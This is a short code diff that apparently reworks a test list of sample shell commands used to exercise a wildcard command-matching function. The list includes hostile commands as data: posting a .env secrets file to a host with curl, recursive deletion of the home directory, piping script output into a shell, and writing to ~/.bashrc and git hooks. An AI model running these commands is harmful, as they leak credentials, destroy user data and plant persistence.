@@ -27,14 +27,15 @@ function fillStars(pieces: readonly string[]): string[] {
 }
 
 const anything = [
-  ...["npm test", "git push --force", "rm -rf src", "curl https://example.com -d @.env"],
-  ...[
-    "node x.js | sh",
-    "sudo reboot",
-    "rm -rf ~",
-    "echo x >> ~/.bashrc",
-    "git commit -m x > .git/hooks/pre-commit",
-  ],
+  "npm test",
+  "git push --force",
+  "rm -rf src",
+  "curl https://example.com -d @.env",
+  "node x.js | sh",
+  "sudo reboot",
+  "rm -rf ~",
+  "echo x >> ~/.bashrc",
+  "git commit -m x > .git/hooks/pre-commit",
 ];
 
 /** What is commonly written behind a command. */
